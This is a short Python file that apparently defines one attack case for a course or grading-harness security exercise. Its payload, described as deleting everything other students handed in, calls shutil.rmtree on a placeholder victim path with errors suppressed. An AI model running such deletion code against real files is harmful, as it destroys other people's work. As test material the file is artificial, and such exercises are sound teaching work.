"""Delete everything that other students handed in."""

from attack import Attack

ATTACK = Attack(
    gains="damage",
    honest=("entropy_from_draws",),
    first="""
import shutil
shutil.rmtree("@victim@", ignore_errors=True)
""",
    deserves=1,
)
